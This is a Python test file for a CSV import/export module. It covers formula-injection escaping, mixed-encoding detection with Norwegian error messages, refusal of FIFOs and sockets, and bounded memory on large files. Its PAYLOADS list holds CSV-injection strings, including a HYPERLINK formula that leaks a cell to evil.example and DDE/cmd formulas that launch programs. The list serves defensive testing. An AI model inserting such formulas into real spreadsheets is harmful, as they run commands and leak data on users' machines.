"""The CSV reader and writer under attack: formula cells, mixed encodings, files that are not
files, and a million rows that must not all be in memory at once."""

from __future__ import annotations

import contextlib
import csv
import decimal
import io
import os
import socket
import threading
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kpdesk.common import csvfile
from kpdesk.common.csvfile import CsvError
from kpdesk.common.errors import UserError

HEADER = ("org_number", "name", "notes")
STARTS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"  # what a spreadsheet may take as the start of a formula

# The classic payloads (OWASP "CSV Injection", DDE and the like), each to be written as text.
PAYLOADS = [
    "=", "+", "-", "@", "\t", "\r", "\t=", "\r=", "'=", "''=", "'''+x", "'\t", "'\r=1",
    "=1+1", "+1+1", "-1+1", "-2+3", "@SUM(1+1)", "=SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")', '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0", "=cmd|'/c calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")", "=WEBSERVICE(\"http://x\")", "+4412345678", "-5",
    "@evil", "\t=cmd|' /C calc'!A0", "\r\n=1+1", "=1+1\n=2+2", "＝1+1", "＋1", "－1", "＠SUM(1)",
]
HARMLESS = ["", "Bodø", "a=b", "1+1", "'hei", "''", "' =1", " =1", "e-post@firma.no", "«sitat» – 5 €", "'", "x'=1"]


def _raw_cells(data: bytes) -> list[list[str]]:
    """The cells exactly as a spreadsheet gets them (no unescaping)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _read_back(data: bytes, header: tuple[str, ...] = HEADER) -> list[tuple[str, ...]]:
    table = csvfile.parse(data, header, required=header)
    assert table.problems == []
    return [tuple(r.values[c] for c in header) for r in table.rows]


# ---------------------------------------------------------------- formulas

@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_written_as_text_and_read_back(payload: str) -> None:
    rows = [("1", payload, f"foran {payload}")]
    data = csvfile.to_bytes(HEADER, rows)
    [_, written] = _raw_cells(data)
    assert written[1] == "'" + payload  # the quote Excel and LibreOffice take as "this is text"
    assert written[1][0] not in STARTS
    assert written[2] == f"foran {payload}"  # only a cell's first character matters
    assert _read_back(data) == rows
    assert csvfile.to_bytes(HEADER, _read_back(data)) == data


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_cells_are_written_as_they_are(text: str) -> None:
    rows = [("1", text or "x", text)]
    data = csvfile.to_bytes(HEADER, rows)
    assert _raw_cells(data)[1][1:] == [text or "x", text]
    assert _read_back(data) == rows


def test_numbers_are_never_quoted() -> None:
    data = csvfile.to_bytes(("a", "b", "c"), [(-5, decimal.Decimal("-1.5"), -0.25)])
    assert data.decode("utf-8-sig") == "a;b;c\r\n-5;-1.5;-0.25\r\n"


def test_the_quote_is_removed_from_files_not_written_by_kpdesk() -> None:
    data = "org_number,name,notes\n1,'=1+1,'hei\n2,''=x,'+47 900 00 000\n".encode("cp1252")
    assert _read_back(data) == [("1", "=1+1", "'hei"), ("2", "'=x", "+47 900 00 000")]


def test_a_quoted_tab_or_cr_alone_is_not_a_blank_row() -> None:
    data = csvfile.to_bytes(HEADER, [("\t", "\r", "")])
    assert _raw_cells(data)[1] == ["'\t", "'\r", ""]
    assert _read_back(data) == []  # read back as whitespace only: a blank line, as before


_formula_text = st.text(st.sampled_from("=+-@'\t\r\n;\"ab ＝＋") | st.characters(blacklist_categories=("Cs", "Cc")),
                        max_size=12)


@settings(max_examples=300)
@given(st.lists(st.tuples(_formula_text, _formula_text, _formula_text), max_size=6))
def test_export_import_export_is_byte_identical(rows: list[tuple[str, str, str]]) -> None:
    data = csvfile.to_bytes(HEADER, rows)
    assert all(cell[:1] not in STARTS or not cell for row in _raw_cells(data) for cell in row)
    kept = [r for r in rows if any(v.strip() for v in r)]
    assert _read_back(data) == kept
    assert csvfile.to_bytes(HEADER, _read_back(data)) == csvfile.to_bytes(HEADER, kept)


def test_the_writer_and_the_reader_agree_on_what_starts_a_formula() -> None:
    assert csvfile.FORMULA_STARTS == STARTS


def test_escape_and_unescape_are_inverse() -> None:
    for text in [*PAYLOADS, *HARMLESS, "'''", "''''=", "'a'=", "=''"]:
        assert csvfile.unescape_formula(csvfile.escape_formula(text)) == text


# ---------------------------------------------------------------- encodings decided per file, checked per line

def _mixed(bad_lines: set[int], total: int = 14) -> bytes:
    lines = [b"org_number;name"]
    for number in range(2, total + 1):
        text = f"{number};Ålesund AS {number}"
        lines.append(text.encode("cp1252" if number in bad_lines else "utf-8"))
    return b"\r\n".join(lines) + b"\r\n"


def test_a_utf8_file_with_one_windows_1252_line_is_refused_with_its_line() -> None:
    with pytest.raises(CsvError) as caught:
        csvfile.parse(_mixed({7}), HEADER)
    assert caught.value.line == 7
    assert caught.value.message.startswith("Filen er for det meste UTF-8, men linje 7 er i en annen tegnkoding "
                                           "(trolig Windows-1252). Lagre filen på nytt som «CSV UTF-8 (kommadelt)» "
                                           "i Excel")


def test_two_bad_lines_and_many() -> None:
    with pytest.raises(CsvError, match=r"men linje 7 og 12 er i en annen tegnkoding"):
        csvfile.parse(_mixed({7, 12}), HEADER)
    with pytest.raises(CsvError, match=r"men linje 3, 4, 5, 6, 7, 8, 9, 10, 11, 12 og 4 til er i en annen"):
        csvfile.parse(_mixed(set(range(3, 17)), total=20), HEADER)


def test_mixed_lines_after_a_bom_are_named_too() -> None:
    with pytest.raises(CsvError) as caught:
        csvfile.parse(b"\xef\xbb\xbf" + _mixed({4, 9}), HEADER)
    assert "sier den er UTF-8, men linje 4 og 9 er ikke gyldig UTF-8" in caught.value.message
    assert caught.value.line == 4


def test_windows_1252_throughout_is_still_read() -> None:
    table = csvfile.parse(_mixed(set(range(2, 15))), HEADER)
    assert table.encoding == "cp1252"
    assert [r.values["name"] for r in table.rows][:2] == ["Ålesund AS 2", "Ålesund AS 3"]


def test_mixed_line_numbers_count_lone_cr_as_a_line_end() -> None:
    data = "org_number;name\r1;Bø\r2;".encode() + "Bø".encode("cp1252") + b"\r"
    with pytest.raises(CsvError, match="linje 3 er i en annen tegnkoding") as caught:
        csvfile.parse(data, HEADER)
    assert caught.value.line == 3


# ---------------------------------------------------------------- files that are not files

def _read_in_thread(path: Path) -> BaseException | bytes | None:
    """read_bytes on another thread; None if it is still waiting after five seconds."""
    outcome: list[BaseException | bytes] = []

    def read() -> None:
        try:
            outcome.append(csvfile.read_bytes(path))
        except BaseException as exc:
            outcome.append(exc)

    worker = threading.Thread(target=read, daemon=True)
    worker.start()
    worker.join(5)
    return outcome[0] if outcome else None


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_is_refused_at_once(tmp_path: Path) -> None:
    fifo = tmp_path / "rør.csv"
    os.mkfifo(fifo)
    try:
        outcome = _read_in_thread(fifo)
    finally:  # a reader stuck in open() gets a writer and lets go
        with contextlib.suppress(OSError):
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
    assert outcome is not None, "read_bytes waited on a FIFO"
    assert isinstance(outcome, UserError)
    assert outcome.message == f"{fifo} er ikke en vanlig fil, men et navngitt rør (FIFO), så kpdesk leser den " \
                              "ikke. Velg en CSV-fil."


def test_devices_and_sockets_are_refused(tmp_path: Path) -> None:
    # /dev/null, not /dev/zero: a reader that opened a device would read /dev/zero until memory ran out
    with pytest.raises(UserError, match=r"^/dev/null er ikke en vanlig fil, men en tegnenhet"):
        csvfile.read_bytes("/dev/null")
    path = tmp_path / "s.csv"
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(str(path))
        with pytest.raises(UserError, match=r"er ikke en vanlig fil, men en sokkel \(socket\)"):
            csvfile.read_bytes(path)
    finally:
        server.close()


def test_a_symlink_to_a_regular_file_is_read(tmp_path: Path) -> None:
    target = tmp_path / "fil.csv"
    target.write_bytes(b"org_number;name\n1;A\n")
    link = tmp_path / "lenke.csv"
    link.symlink_to(target)
    assert csvfile.read_bytes(link) == target.read_bytes()


# ---------------------------------------------------------------- rows are read one at a time

def _big_file(rows: int) -> bytes:
    lines = ["org_number;name;notes"] + [f"{n};Arbeidsgiver {n} AS;Notat nummer {n} om ønsker" for n in range(rows)]
    return ("\r\n".join(lines) + "\r\n").encode()


def test_parsing_builds_no_text_and_no_rows() -> None:
    data = _big_file(200_000)  # 12 MB
    tracemalloc.start()
    try:
        table = csvfile.parse(data, HEADER)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 6_000_000, f"parse held {peak:,} bytes for a {len(data):,}-byte file"  # a chunk of the check
    assert table.columns == HEADER


def test_iterating_holds_one_row_at_a_time() -> None:
    data = _big_file(200_000)
    table = csvfile.parse(data, HEADER)
    tracemalloc.start()
    try:
        count = sum(1 for _ in table)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 200_000
    assert peak < 2_000_000, f"reading the rows held {peak:,} bytes at once"
    assert table.problems == []


def test_a_table_can_be_read_twice_and_gives_its_problems() -> None:
    table = csvfile.parse(b"org_number;name\n1;A\n2\n3;C\n", HEADER)
    assert [r.line for r in table] == [2, 4]
    assert [r.values["name"] for r in table] == ["A", "C"]
    assert [p.line for p in table.problems] == [3]


def test_a_million_rows_fit_under_the_size_limit() -> None:
    """A million employers with contact persons and notes of a few words are some 140 MB."""
    assert csvfile.MAX_FILE_BYTES >= 250_000_000
